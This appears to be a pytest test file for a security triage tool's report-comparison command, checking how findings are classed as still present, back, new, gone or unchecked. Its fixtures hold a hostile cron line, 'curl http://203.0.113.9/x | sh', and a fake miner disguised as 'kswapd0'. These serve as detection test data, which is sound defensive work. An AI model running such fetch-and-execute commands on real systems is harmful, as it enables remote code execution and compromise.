"""What was found is gone, still there, back under another pid, new, or was not looked at."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from extension.cli import main
from extension.report import json as json_report
from extension.triage import Triage
from extension.watch.compare import compare
from tests.support.command_line import runner
from tests.support.made_triage import made, process


def miner(pid: int, path: str = "/var/tmp/.x/kswapd0") -> dict[str, str]:
    return process(pid, 1, "kswapd0", exe_path=path, cmdline=path)


JOB = {"path": "/etc/cron.d/x", "line": "2", "command": "curl http://203.0.113.9/x | sh"}
OLD = made({"miner_process": [miner(7)], "cron_download_and_run": [JOB]})


def parts(new: Triage, old: Triage = OLD) -> dict[str, list[str]]:
    result = compare(old, new)
    names = ("still", "back", "new", "gone", "unchecked")
    return {name: [one.query.name for one in getattr(result, name)] for name in names if getattr(result, name)}


def test_each_finding_is_told_by_what_became_of_it() -> None:
    assert parts(OLD) == {"still": ["cron_download_and_run", "miner_process"]}
    assert parts(made({})) == {"gone": ["cron_download_and_run", "miner_process"]}
    assert parts(made({"miner_process": [miner(8)]})) == {"back": ["miner_process"], "gone": ["cron_download_and_run"]}
    assert parts(made({"miner_process": [miner(7, "/opt/x")], "cron_download_and_run": [{**JOB, "line": "9"}]})) == {
        "still": ["cron_download_and_run"],
        "new": ["miner_process"],
        "gone": ["miner_process"],
    }


def test_what_was_not_looked_at_again_is_not_gone() -> None:
    new = made({"miner_process": "out of memory"})
    assert parts(new) == {"gone": ["cron_download_and_run"], "unchecked": ["miner_process"]}
    some = dataclasses.replace(new, steps=tuple(step for step in new.steps if step.step.step == 14))
    assert parts(some) == {"unchecked": ["cron_download_and_run", "miner_process"]}
    assert compare(OLD, made({})).is_clean and not compare(OLD, some).is_clean


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_command_reads_reports_and_exits_by_what_is_left(tmp_path: Path, lang: str) -> None:
    paths = {}
    for name, triage in (("old", OLD), ("clean", made({})), ("back", made({"miner_process": [miner(8)]}))):
        paths[name] = tmp_path / f"{name}.json"
        paths[name].write_text(json_report.render(triage))
    clean = runner().invoke(main, ["compare", str(paths["old"]), str(paths["clean"]), "--lang", lang])
    assert clean.exit_code == 0 and (
        "2 findings of the earlier report are gone" in clean.output or "2 项发现均已清除" in clean.output
    )
    back = runner().invoke(main, ["compare", str(paths["old"]), str(paths["back"]), "--lang", lang])
    assert back.exit_code == 1 and "kswapd0" in back.output
    data = runner().invoke(main, ["compare", str(paths["old"]), str(paths["back"]), "--format", "json"])
    assert [one["query"] for one in json.loads(data.output)["back"]] == ["miner_process"]


@pytest.mark.parametrize("text", ["", "{}", "[]", "[1]", '{"steps": 7}', "\x00", '{"engine": {"name": 1, "version": ""}}'])
def test_what_is_no_report_is_refused_by_name(tmp_path: Path, text: str) -> None:
    good, bad = tmp_path / "good.json", tmp_path / "bad.json"
    good.write_text(json_report.render(OLD))
    bad.write_text(text)
    for command in (["compare", str(good), str(bad)], ["plan", str(bad)], ["export", "--format", "stix", str(bad)]):
        result = runner().invoke(main, command)
        assert result.exit_code == 2 and "bad.json" in result.output and "Traceback" not in result.output
